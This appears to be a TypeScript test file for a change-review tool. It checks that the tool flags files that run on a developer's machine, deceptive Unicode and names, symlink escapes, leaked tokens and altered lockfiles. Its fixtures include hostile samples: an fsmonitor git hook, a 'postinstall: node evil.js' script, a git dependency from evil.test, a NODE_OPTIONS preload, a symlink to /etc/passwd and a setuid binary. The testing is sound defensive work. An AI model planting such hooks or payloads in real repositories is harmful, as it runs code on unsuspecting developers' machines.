// What is flagged, and as what, of the attacks that leave something behind (PER-01 to 31) or deceive the reader (TRM-07 to 15, 17, 19, 23, 26, 27).
// Each has a harmless twin that is not.
import { describe, expect, it } from 'vitest'
import type { Change, RiskKind } from '../../src/model/change.ts'
import { openReview } from '../../src/review/open-review.ts'
import { writeFiles } from '../support/repository.ts'
import { makeLayer } from './support/layer.ts'

type Told = Readonly<Record<string, readonly string[]>>

/** Kinds of risk by path, after a shell script in a view of these files. */
async function risksOf(
  files: Readonly<Record<string, string>>,
  script: string,
): Promise<{ readonly kinds: Told; readonly changes: readonly Change[] }> {
  const layer = makeLayer()
  writeFiles(layer.project, files)
  layer.inView(script)
  using review = await openReview(layer.proposal(), { lines: true, settle: true })
  const kinds = Object.fromEntries(review.changes.map(({ path, risks }) => [path, [...new Set(risks.map(({ kind }) => kind))].toSorted()]))
  return { kinds, changes: review.changes }
}
const write = (name: string, text: string): string => `mkdir -p "$(dirname '${name}')"; cat > '${name}' <<'END'\n${text}\nEND\n`
const reasons = (changes: readonly Change[], path: string): string =>
  changes
    .find((change) => change.path === path)
    ?.risks.map(({ reason, line }) => `${reason}${line === undefined ? '' : ` @${line}`}`)
    .join('\n') ?? ''

describe('runs on your machine (PER-01 to 31)', () => {
  const names = [
    '.git/hooks/pre-commit',
    '.git/modules/x/hooks/post-checkout',
    '.git/config',
    'sub/.git',
    '.gitattributes',
    '.gitmodules',
    '.hg/hgrc',
    '.jj/repo/config.toml',
    '.lfsconfig',
    '.vscode/tasks.json',
    'a.code-workspace',
    '.idea/runConfigurations/x.xml',
    '.zed/tasks.json',
    '.exrc',
    '.nvim.lua',
    '.dir-locals.el',
    '.devcontainer/devcontainer.json',
    '.claude/settings.json',
    '.claude/skills/x/SKILL.md',
    '.mcp.json',
    '.cursor/mcp.json',
    '.codex/config.toml',
    '.gemini/settings.json',
    'opencode.json',
    'CLAUDE.md',
    'docs/AGENTS.md',
    '.cursor/rules/x.mdc',
    '.env',
    '.envrc',
    'mise.toml',
    '.tool-versions',
    '.nvmrc',
    'flake.nix',
    'package.json',
    'packages/x/package.json',
    '.npmrc',
    '.yarnrc.yml',
    '.pnpmfile.cjs',
    'bunfig.toml',
    'eslint.config.js',
    'vite.config.ts',
    'jest.config.js',
    '.prettierrc',
    'tsconfig.json',
    'conftest.py',
    'sitecustomize.py',
    'x.pth',
    'setup.py',
    'pyproject.toml',
    'tox.ini',
    'build.rs',
    '.cargo/config.toml',
    'rust-toolchain.toml',
    'go.work',
    'tools.go',
    'gradlew',
    'gradle/wrapper/gradle-wrapper.properties',
    '.mvn/jvm.config',
    'Makefile',
    'justfile',
    'Taskfile.yml',
    'CMakeLists.txt',
    '.bazelrc',
    'Rakefile',
    '.bashrc',
    '.zshenv',
    '.tmux.conf',
    '.gdbinit',
    'compose.yaml',
    'Dockerfile',
    'Vagrantfile',
    'Tiltfile',
    'main.tf',
    '.github/workflows/ci.yml',
    '.gitlab-ci.yml',
    '.pre-commit-config.yaml',
    '.husky/pre-commit',
    'lefthook.yml',
    'CODEOWNERS',
    'renovate.json',
    'x.desktop',
    'x.lnk',
    'autorun.inf',
    'x.command',
    'x.docm',
    'node_modules/.bin/tsc',
    'bin/node',
    'git',
    'x.wasm',
    'x.node',
    'lib/x.so',
    'x.jar',
    'anchorhold.yaml',
    // The same, spelled otherwise or read by the same programs from elsewhere.
    'PACKAGE.json',
    'MAKEFILE',
    'Makefile.local',
    'makefile.inc',
    'vite.config.MTS',
    'webpack.prod.js',
    'webpack.config.babel.js',
    'jest.config.json',
    'babel.config.json',
    'wdio.conf.js',
    'cypress/support/e2e.ts',
    '.huskyrc.js',
    '.simple-git-hooks.json',
    'Dangerfile',
    'Jenkinsfile.prod',
    'a.gitlab-ci.yml',
    'tools/.pre-commit-config.yaml',
    '.envrc.local',
    'Cargo.toml',
    'build.mill',
    'project.clj',
    'deps.edn',
    '.iex.exs',
    '.ghci',
    'docs/conf.py',
    'mkdocs.yml',
    'poetry.toml',
    'env/bin/activate',
    '.venv2/bin/python',
    'knexfile.js',
    'angular.json',
    'autogen.sh',
    'main.tf.json',
    'shell/module.nix',
    'units/x.socket',
    'x.crontab',
    'phpunit.xml',
    '.htaccess',
    '.run/x.run.xml',
    'init.gradle.kts',
  ]
  it('every such name, at any depth where it is obeyed', async () => {
    const { kinds } = await risksOf({}, names.map((name) => write(name, 'x')).join(''))
    expect(names.filter((name) => kinds[name]?.includes('runs') !== true)).toEqual([])
  })

  it('what was renamed away from such a name is told as such', async () => {
    const { kinds, changes } = await risksOf(
      { '.github/workflows/check.yml': 'on: push\njobs: {}\n', 'src/a.ts': 'a long line of code\n' },
      'mv .github/workflows/check.yml old.txt; mv src/a.ts src/b.ts',
    )
    expect(kinds).toEqual({ 'old.txt': ['runs'], 'src/b.ts': [] })
    expect(reasons(changes, 'old.txt')).toMatch(/taken from where it was obeyed: on the forge/)
  })

  it('what go runs is told by its line (PER-24)', async () => {
    const { kinds } = await risksOf(
      {},
      write('a.go', 'package a\n\n//go:generate sh -c id\n') + write('b.go', 'package b\n\n// go:generate is not used here\n'),
    )
    expect(kinds).toEqual({ 'a.go': ['runs'], 'b.go': [] })
  })

  it('hidden behind thousands of harmless files, it is judged, or told as not judged', async () => {
    const { changes } = await risksOf(
      {},
      `python3 -c 'for n in range(20002): open("f%05d" % n, "w").write("\\u202e" if n in (9000, 20001) else "1")'`,
    )
    const of = (name: string) => changes.find(({ path }) => path === name)?.risks.map(({ rule }) => rule)
    expect([of('f09000'), of('f08999'), of('f20001')]).toEqual([['bidi'], [], ['unread']])
  })

  it('plain files are nobody to worry about', async () => {
    const plain = [
      'src/main.ts',
      'README.md',
      'lib/util.py',
      'test/a.test.ts',
      'docs/guide.md',
      'data/x.json',
      'style.css',
      'src/deep/er/mod.rs',
      'main.go',
      'a/b.c',
      'notes.txt',
    ]
    const { kinds } = await risksOf({ 'src/main.ts': 'old\n' }, plain.map((name) => write(name, 'const x = 1')).join(''))
    expect(Object.fromEntries(plain.map((name) => [name, kinds[name]]))).toEqual(Object.fromEntries(plain.map((name) => [name, []])))
  })

  it('says when, and which key or script: git configuration, package scripts, environment (PER-02, 03, 18, 19)', async () => {
    const { changes } = await risksOf(
      { 'package.json': '{"scripts":{"test":"vitest"}}' },
      write('.git/config', '[core]\n\tfsmonitor = ./evil\n[include]\n\tpath = ../tracked\n[alias]\n\tx = !sh') +
        write(
          'package.json',
          '{"scripts":{"test":"vitest","postinstall":"node evil.js"},"dependencies":{"left-pad":"git+https://evil.test/x"}}',
        ) +
        write('.env', 'NODE_OPTIONS=--require ./evil.js'),
    )
    expect(reasons(changes, '.git/config')).toMatch(/core\.fsmonitor = \.\/evil[\s\S]*include\.path[\s\S]*alias\.x/)
    expect(reasons(changes, 'package.json')).toMatch(
      /with npm install or publish: postinstall = node evil\.js[\s\S]*left-pad@git\+https:\/\/evil\.test\/x, not from a registry/,
    )
    expect(reasons(changes, '.env')).toContain('sets NODE_OPTIONS')
  })

  it('executables: a new one, a new bit, one that cannot be read (TRM-13)', async () => {
    const { kinds } = await risksOf(
      { run: '#!/bin/sh\n', same: '#!/bin/sh\n' },
      `chmod +x run; printf '\\177ELF\\0001234' > elf; printf '#!/bin/sh\\n' > new; chmod +x new; echo y >> same`,
    )
    expect(kinds).toEqual({ run: ['runs'], elf: ['runs'], new: ['runs'], same: [] })
  })
})

describe('deceives (TRM-07 to 11)', () => {
  it('bidi, invisible, look-alike and control characters in added lines, with the line', async () => {
    const { changes } = await risksOf(
      { 'old.ts': 'ok\nwas here: \u202e\n' },
      `printf 'ok\\nif (x\\342\\200\\256) {\\n' > bidi.ts; printf 'a\\342\\200\\213b\\n' > zero.ts; printf 'p\\320\\260ypal = 1\\n' > homo.ts; printf 'evil\\rok\\n' > cr.ts; printf '\\033[2J\\n' > esc.ts
       printf 'x\\302\\240= 1\\n' > nbsp.ts; echo more >> old.ts; printf 'f\\360\\237\\221\\250\\342\\200\\215\\360\\237\\221\\251 ok\\n' > family.ts; printf 'dos\\r\\nlines\\r\\n' > crlf.txt
       { printf 'x = 1;'; printf '%0300d' 0 | tr 0 ' '; echo 'evil()'; } > right.ts; { seq 1 3; yes '' | head -100; echo evil; } > down.ts; printf '\\363\\240\\201\\241x\\n' > tag.md`,
    )
    const told = (name: string): string => reasons(changes, name)
    expect(told('bidi.ts')).toMatch(/U\+202E.*@2/)
    expect([told('zero.ts'), told('tag.md')].map((text) => /invisible character \(U\+(200B|E0061)\)/.test(text))).toEqual([true, true])
    expect([told('homo.ts'), told('cr.ts'), told('esc.ts'), told('nbsp.ts')].every((text) => text !== '')).toBe(true)
    expect([told('right.ts'), told('down.ts')]).toEqual([
      expect.stringContaining('far to the right'),
      expect.stringContaining('empty lines'),
    ])
    expect([told('old.ts'), told('family.ts'), told('crlf.txt')]).toEqual(['', '', ''])
  })

  it('names: controls, look-alikes of protected ones, case twins, dashes; attributes that hide (TRM-10, 19)', async () => {
    const { kinds } = await risksOf(
      { 'Readme.md': 'x' },
      `: > "$(printf 'n\\nl')"; : > "$(printf 'x\\342\\200\\256y')"; : > ./-rf; : > 'a '; mkdir .vsc0de; echo x > .vsc0de/tasks.json; echo x > README.md; mkdir .GIT; echo x > .GIT/config
       echo '*.ts -diff' > .gitattributes; : > "$(printf 'b\\377')"`,
    )
    for (const name of ['n\nl', 'x\u202ey', '-rf', 'a ', '.vsc0de/tasks.json', 'README.md', '.gitattributes', 'b\udcff'])
      expect({ name, kinds: kinds[name] }).toEqual({ name, kinds: expect.arrayContaining(['deceives']) })
    expect(kinds['.GIT/config']).toContain('runs') // PER-07, TRM-23: a spelling of .git
  })
})

describe('escapes, leaks, supply chain (TRM-12, 14, 15, 17, 26, 27; PER-20)', () => {
  it('links out, pipes, set-user-ID', async () => {
    const { kinds } = await risksOf(
      { in: 'x' },
      'ln -s /etc/passwd abs; ln -s ../../up rel; ln -s in fine; mkfifo p; cp in suid; chmod 4755 suid',
    )
    expect(kinds).toMatchObject({ abs: ['escapes'], rel: ['escapes'], fine: [], p: ['escapes'], suid: ['escapes', 'runs'] })
  })

  it('credentials in what was added, not in what was there', async () => {
    const token = ['ghp', '16C7e42F292c6912E7710c838347Ae178B4a'].join('_')
    const { kinds } = await risksOf({ 'old.txt': `${token}\n` }, `echo 'token = "${token}"' > new.txt; echo more >> old.txt`)
    expect(kinds).toEqual({ 'new.txt': ['leaks'], 'old.txt': [] })
  })

  it('a lockfile whose address is another at the same host, or no longer a secure one', async () => {
    const npm = (address: string, version: string): string =>
      JSON.stringify({ packages: { 'node_modules/a': { version, resolved: address } } }, undefined, 2)
    const yarn = (address: string): string => `a@^1.0.0:\n  version "1.0.0"\n  resolved "${address}"\n`
    const { changes } = await risksOf(
      {
        'package-lock.json': npm('https://registry.test/a/-/a-1.0.0.tgz', '1.0.0'),
        'twin/package-lock.json': npm('https://registry.test/a/-/a-1.0.0.tgz', '1.0.0'),
        'yarn.lock': yarn('https://registry.test/a/-/a-1.0.0.tgz'),
      },
      write('package-lock.json', npm('https://registry.test/evil/-/a-1.0.0.tgz', '1.0.0')) +
        write('twin/package-lock.json', npm('https://registry.test/a/-/a-1.0.1.tgz', '1.0.1')) +
        write('yarn.lock', yarn('http://registry.test/a/-/a-1.0.0.tgz')),
    )
    const moved = /download source changed while the version stayed/
    expect([reasons(changes, 'package-lock.json'), reasons(changes, 'yarn.lock')]).toEqual([
      expect.stringMatching(moved),
      expect.stringMatching(moved),
    ])
    expect(reasons(changes, 'twin/package-lock.json')).not.toMatch(moved)
  })

  it('a lockfile whose source or hash changed; dependencies edited on disk, ignored or not', async () => {
    const lock = (host: string, hash: string): string =>
      JSON.stringify({ packages: { 'node_modules/a': { version: '1.0.0', resolved: `https://${host}/a.tgz`, integrity: hash } } }, null, 2)
    const good = 'sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=='
    const { changes, kinds } = await risksOf(
      { 'package-lock.json': lock('registry.test', good), '.gitignore': 'node_modules\n', 'node_modules/a/index.js': 'ok\n' },
      write('package-lock.json', lock('evil.test', good.replaceAll('A', 'B'))) + 'echo evil >> node_modules/a/index.js',
    )
    expect(reasons(changes, 'package-lock.json')).toMatch(
      /download source changed: evil\.test[\s\S]*integrity changed while the version stayed: node_modules\/a@1\.0\.0/,
    )
    expect(kinds['node_modules/a/index.js']).toEqual(['supply-chain'])
  })

  it('a repository inside, bare or not (TRM-15)', async () => {
    const { kinds } = await risksOf({}, 'git init -q n; git init -q --bare b.git; echo x > n/f')
    const runs = (name: string): boolean => kinds[name]?.includes('runs' satisfies RiskKind) === true
    expect([runs('b.git/HEAD'), runs('b.git/config'), kinds['n/f']]).toEqual([true, true, []])
  })
})
